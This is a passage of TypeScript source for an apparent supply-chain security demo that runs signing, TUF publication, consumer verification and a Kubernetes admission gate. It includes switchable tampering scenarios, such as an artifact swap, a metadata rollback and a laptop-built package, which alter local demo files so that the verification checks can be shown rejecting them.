 * entry) and must name the build step's identity, as `--provenance-key keys/builder.pub` requires
 * the builder's key; then its envelope is what the rebuilder gets.
 */
function rebuildInput(ctx: DemoContext, out: string): string {
  const provenance = path(ctx, ctx.state.provenance ?? '');
  if (ctx.state.keyless !== true) return provenance;
  mkdirSync(out, { recursive: true });
  const input = join(out, 'input.provenance.json');
  const bundle = JSON.parse(readFileSync(provenance, 'utf8')) as unknown;
  let v: ReturnType<typeof verifyKeylessDsse>;
  try {
    v = verifyKeylessDsse({ bundle, trustedRoot: JSON.parse(readFileSync(caRoot(ctx), 'utf8')) as unknown });
  } catch (e) {
    if (!isCustodyError(e)) throw e;
    throw new StageFailure('rebuild', e.code, ctx.state.provenance ?? '', e.message);
  }
  if (v.issuer !== KEYLESS_ISSUER || !/\/steps\/build$/.test(v.identity)) {
    throw new StageFailure('rebuild', 'IDENTITY_MISMATCH', ctx.state.provenance ?? '', `the provenance is signed for ${v.identity} (issuer ${v.issuer}), not the build step`);
  }
  writeFileSync(input, `${JSON.stringify(v.envelope)}\n`);
  return input;
}

/** The first changed line of a diffoscope text report, with the file inside the package it is in. */
export function firstDiff(report: string): string {
  let file: string | undefined;
  for (const line of report.split('\n')) {
    const section = /├── (package\/\S+)/.exec(line);
    if (section !== null) file = section[1];
    const text = line.replace(/^[│ ]+/, '');
    if (file !== undefined && /^[-+](?![-+]{2} )/.test(text)) return `${file}: ${text}`.slice(0, 240);
  }
  return 'the contents differ';
}

const sign: Step = {
  id: 'sign',
  cncf: '11',
  title: 'the signing service checks the release policy, signs the digest in the HSM and logs it',
  async run(ctx, evidence) {
    const url = await ensureServer(ctx);
    const tokens = ctx.state.tokens!;
    // DSSE envelopes (.json) and, keyless, Sigstore bundles (.sigstore): the service verifies identities with its CA's trusted root.
    const files = readdirSync(atts(ctx)).filter((f) => f.endsWith('.json') || f.endsWith('.sigstore')).sort().map((f) => atts(ctx, f));
    const pushed = json<unknown>(await custody(ctx, ['push', ...files, '--server', url, '--json'], 'attestations', { env: { CUSTODY_TOKEN: tokens.attester } }));
    const ids = attestationIds(pushed);
    ctx.state.attestationIds = ids;
    evidence.push({ what: `${Object.keys(ids).length} attestations stored`, where: `${url}/v1/attestations` });
    let artifact = ci(ctx, ARTIFACT);
    if (ctx.attack === 'policy-bypass-signing') {
      // Someone with a signer token asks for a signature over a package built outside the pipeline.
      const laptop = path(ctx, 'laptop');
      mkdirSync(laptop, { recursive: true });
      artifact = join(laptop, 'greeter-1.0.0.tgz');
      writeFileSync(artifact, Buffer.concat([readFileSync(ci(ctx, ARTIFACT)), Buffer.from('built on a laptop')]));
    }
    const bundle = path(ctx, 'release', 'greeter-1.0.0.tgz.sigstore.json');
    const s = json<{ logIndex: number }>(
      await custody(ctx, ['sign', artifact, '--server', url, '--key-ref', 'release', ...Object.values(ids).flatMap((id) => ['--attestation', id]), '--out', bundle, '--json'], rel(ctx, artifact), { env: { CUSTODY_TOKEN: tokens.signer } }),
    );
    ctx.state.logIndex = s.logIndex;
    writeFileSync(path(ctx, 'release', 'trusted_root.json'), await (await fetch(`${url}/v1/trusted-root`)).text());
    const keys = (await (await fetch(`${url}/v1/signing/keys`)).json()) as { keys: { name: string; publicKeyPem: string }[] };
    const release = keys.keys.find((k) => k.name === 'release');
    if (release !== undefined) writeFileSync(path(ctx, 'release', 'release.pub'), release.publicKeyPem);
    await custody(ctx, ['verify-blob', ci(ctx, ARTIFACT), '--bundle', bundle, '--key', path(ctx, 'release', 'release.pub'), '--trust-root', path(ctx, 'release', 'trusted_root.json'), '--revocations', url, '--json'], ARTIFACT);
    evidence.push({
      what: `Sigstore bundle v0.3 (release key in ${ctx.state.backend === 'softhsm' ? 'SoftHSM2' : 'a key file'}), transparency log entry #${s.logIndex}`,
      where: 'release/greeter-1.0.0.tgz.sigstore.json',
      ...(ctx.state.keyless === true ? { detail: "release policy passed, step identities verified against the service's own CA trusted root" } : {}),
    });
  },
};

/** Attestation ids from `custody push --json`, by file name. */
function attestationIds(pushed: unknown): Record<string, string> {
  const out: Record<string, string> = {};
  const visit = (v: unknown): void => {
    if (Array.isArray(v)) v.forEach(visit);
    else if (typeof v === 'object' && v !== null) {
      const o = v as Record<string, unknown>;
      if (typeof o['id'] === 'string') out[typeof o['file'] === 'string' ? o['file'].split('/').at(-1)! : o['id']] = o['id'];
      else Object.values(o).forEach(visit);
    }
  };
  visit(pushed);
  return out;
}

const publish: Step = {
  id: 'publish',
  cncf: '11-12',
  title: 'publication to the TUF repository: admission checks the attestations against the release policy',
  async run(ctx, evidence) {
    if (ctx.attack === 'artifact-swapped') {
      // After the build (and its signature), the package in the CI's output is replaced.
      writeFileSync(ci(ctx, ARTIFACT), Buffer.concat([readFileSync(ci(ctx, ARTIFACT)), Buffer.from('\0swapped')]));
    }
    rmSync(path(ctx, 'repo-previous'), { recursive: true, force: true });
    cpSync(path(ctx, 'repo', 'metadata'), path(ctx, 'repo-previous', 'metadata'), { recursive: true });
    const r = await custody(
      ctx,
      ['repo', 'add', ci(ctx, ARTIFACT), '--as', TARGET, '--attestations', atts(ctx), '--bundle', path(ctx, 'release', 'greeter-1.0.0.tgz.sigstore.json'), '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), ...trustedRoot(ctx), '--dir', path(ctx, 'repo'), '--sign-key', keyFile(ctx, 'tuf-targets'), '--publish', '--json'],
      ARTIFACT,
    );
    void r;
    evidence.push({ what: `TUF target ${TARGET} with its attestations and signature, published`, where: 'repo/metadata/timestamp.json', ...(ctx.state.keyless === true ? { detail: 'admission: release policy, identities verified with --trusted-root' } : {}) });
  },
};

const fetchStep: Step = {
  id: 'fetch',
  cncf: '13-14',
  title: 'the consumer fetches through TUF and verifies the package against its attestations and signature',
  async run(ctx, evidence) {
    const consumer = path(ctx, 'consumer');
    const fetchArgs = ['fetch', TARGET, '--repo', path(ctx, 'repo'), '--root', path(ctx, 'repo', 'metadata', '1.root.json'), '--metadata-dir', join(consumer, 'tuf'), '--out', join(consumer, 'greeter-1.0.0.tgz'), '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), ...trustedRoot(ctx), '--json'];
    if (ctx.attack === 'repo-rollback' || ctx.attack === 'repo-substitution') {
      if (!existsSync(join(consumer, 'tuf', 'timestamp.json'))) await custody(ctx, fetchArgs, TARGET); // an earlier, honest update
      rmSync(join(consumer, 'greeter-1.0.0.tgz'), { force: true });
      if (ctx.attack === 'repo-rollback') {
        rmSync(path(ctx, 'repo', 'metadata'), { recursive: true, force: true });
        cpSync(path(ctx, 'repo-previous', 'metadata'), path(ctx, 'repo', 'metadata'), { recursive: true });
      } else {
        const target = findFile(path(ctx, 'repo', 'targets', 'greeter'), (f) => f.endsWith('.greeter-1.0.0.tgz'));
        if (target !== undefined) {
          // Other bytes of the very same length, so only the signed hashes can tell.
          const bytes = readFileSync(target);
          bytes.write('substituted!', bytes.length - 16);
          writeFileSync(target, bytes);
        }
      }
    }
    await custody(ctx, fetchArgs, TARGET);
    evidence.push({ what: `TUF verified (root → timestamp → snapshot → targets → hashes), release policy passed${ctx.state.keyless === true ? ' (identities verified with --trusted-root)' : ''}`, where: 'consumer/greeter-1.0.0.tgz' });
    const evidenceDir = join(consumer, 'evidence');
    rmSync(evidenceDir, { recursive: true, force: true });
    mkdirSync(evidenceDir, { recursive: true });
    const client = new TufClient({ repo: path(ctx, 'repo'), metadataDir: join(consumer, 'tuf') });
    try {
      const fetched = await client.fetch(TARGET, consumer);
      try {
        for (const f of readdirSync(fetched.attestationDir)) copyFileSync(join(fetched.attestationDir, f), join(evidenceDir, f));
      } finally {
        fetched.dispose();
      }
    } finally {
      client.close();
    }
    const bundle = findFile(evidenceDir, (f) => f.endsWith('.sigstore.json'));
    await custody(ctx, ['verify-blob', join(consumer, 'greeter-1.0.0.tgz'), '--bundle', bundle ?? '', '--key', path(ctx, 'release', 'release.pub'), '--trust-root', path(ctx, 'release', 'trusted_root.json'), '--json'], TARGET);
    evidence.push({ what: 'signature and transparency-log inclusion verified', where: rel(ctx, bundle ?? evidenceDir) });
  },
};

const consumerScan: Step = {
  id: 'consumer-scan',
  cncf: '15',
  title: "the consumer runs its own scan and records its verification (VSA)",
  async run(ctx, evidence) {
    const consumer = path(ctx, 'consumer');
    const pkg = join(consumer, 'greeter-1.0.0.tgz');
    const digest = digestBytes(readFileSync(pkg));
    const deploy = path(ctx, 'deploy', `sha256-${digest}`);
    mkdirSync(deploy, { recursive: true });
    const sbomAtt = readdirSync(join(consumer, 'evidence')).map((f) => join(consumer, 'evidence', f)).find((f) => (f.endsWith('.json') || f.endsWith('.att.sigstore')) && !f.endsWith('.sigstore.json') && safeType(f) === CYCLONEDX);
    if (sbomAtt === undefined) throw new StageFailure('consumer-scan', 'ATTESTATION_MISSING', TARGET, 'no SBOM among the published attestations');
    writeFileSync(join(consumer, 'sbom.cdx.json'), `${JSON.stringify(statementOf(sbomAtt).predicate, null, 2)}\n`);
    const scan = join(deploy, attName(ctx, 'consumer-scan.att'));
    const scanner = await signing(ctx, 'consumer', 'consumer-scan');
    await custody(ctx, ['scan', 'vulns', '--sbom', join(consumer, 'sbom.cdx.json'), '--db', join(consumer, 'osv.sqlite'), '--fail-on', 'high', '--attest', ...scanner.args, '--subject', pkg, '--out', scan, '--json'], TARGET, { env: scanner.env });
    evidence.push({ what: `consumer's vulnerability scan, attested${keylessly(ctx)}`, where: rel(ctx, scan) });
    const vsa = join(deploy, attName(ctx, 'release.vsa'));
    const verifier = await signing(ctx, 'consumer', 'consumer-verify', ['--vsa-key', '--vsa-keyless']);
    await custody(
      ctx,
      ['verify', '--policy', path(ctx, 'policies', 'release.policy.json'), '--policy-key', pubFile(ctx, 'owner'), '--subject', pkg, '--attestations', join(consumer, 'evidence'), ...trustedRoot(ctx), ...verifier.args, '--vsa-out', vsa, '--verifier-id', CONSUMER_VERIFIER_ID, '--json'],
      TARGET,
      { env: verifier.env },
    );
    evidence.push({ what: `consumer's verification summary (release policy PASSED${keylessly(ctx)})`, where: rel(ctx, vsa) });
  },
};

function safeType(file: string): string | undefined {
  try {
    return statementOf(file).predicateType;
  } catch {
    return undefined;
  }
}

const deploy: Step = {
  id: 'deploy',
  cncf: '15',
  title: 'the deploy gate (Kubernetes admission webhook) decides',
  async run(ctx, evidence) {
    const digest = digestBytes(readFileSync(path(ctx, 'consumer', 'greeter-1.0.0.tgz')));
    const image = `registry.example/greeter@sha256:${digest}`;
    ctx.current?.commands.push(`custody gate serve --policy policies/deploy.policy.json --policy-key keys/owner.pub --attestations deploy/ --insecure-http   # then POST /v1/gate/admission`);
    const app = await buildGateServer({ policy: [path(ctx, 'policies', 'deploy.policy.json')], policyKey: [pubFile(ctx, 'owner')], attestations: path(ctx, 'deploy'), insecureHttp: true, ...(ctx.state.keyless === true ? { trustedRoot: caRoot(ctx) } : {}) });
    try {
      const review = {
        apiVersion: 'admission.k8s.io/v1',
        kind: 'AdmissionReview',
        request: {
          uid: '705ab4f5-6393-11e8-b7cc-42010a800002',
          kind: { group: 'apps', version: 'v1', kind: 'Deployment' },
          resource: { group: 'apps', version: 'v1', resource: 'deployments' },
          namespace: 'production',
          operation: 'CREATE',
          object: {
            apiVersion: 'apps/v1',
            kind: 'Deployment',
            metadata: { name: 'greeter', namespace: 'production' },
            spec: { selector: { matchLabels: { app: 'greeter' } }, template: { metadata: { labels: { app: 'greeter' } }, spec: { containers: [{ name: 'greeter', image }] } } },
          },
        },
      };
      const res = await app.inject({ method: 'POST', url: '/v1/gate/admission', payload: review });
      const body = JSON.parse(res.body) as { response?: { allowed: boolean; status?: { message?: string } } };
      writeFileSync(path(ctx, 'deploy', 'admission-review.json'), `${JSON.stringify({ request: review, response: body }, null, 2)}\n`);
      if (body.response?.allowed !== true) throw new StageFailure('deploy', 'ADMISSION_DENIED', image, body.response?.status?.message ?? `HTTP ${res.statusCode}`);
      evidence.push({ what: `admitted: Deployment greeter (${image.slice(0, 40)}…)`, where: 'deploy/admission-review.json' });
    } finally {
      await app.close();
    }
  },
};

export const STEPS: readonly Step[] = [commit, source, trigger, preBuild, build, postBuild, rebuild, sign, publish, fetchStep, consumerScan, deploy];
